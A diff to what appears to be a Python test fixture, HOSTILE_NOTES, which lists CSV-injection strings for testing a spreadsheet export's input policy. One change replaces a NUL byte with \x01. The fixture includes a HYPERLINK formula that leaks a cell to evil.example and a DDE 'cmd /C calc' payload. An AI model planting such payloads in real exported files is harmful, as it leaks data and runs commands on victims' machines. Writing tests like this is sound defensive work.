@@ -48,11 +48,12 @@ def reported(factory: sessionmaker[Session], imported: ImportSummary) -> session
 
 
 # Notes as they could be stored before the input policy: formulas (OWASP's CSV-injection
-# examples), control characters openpyxl refuses, a right-to-left override.
+# examples), control characters openpyxl refuses, a right-to-left override. (Not NUL, which
+# PostgreSQL refuses to store at all.)
 HOSTILE_NOTES = {
     "1.2": '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
     "2.1": "+1+cmd|' /C calc'!A0",
-    "2.2": "-2+3\x00",
+    "2.2": "-2+3\x01",
     "2.3": "@SUM(1+1)\x0bWordin rivinvaihto",
     "2.4": "\t=1+1\u202e",
 }
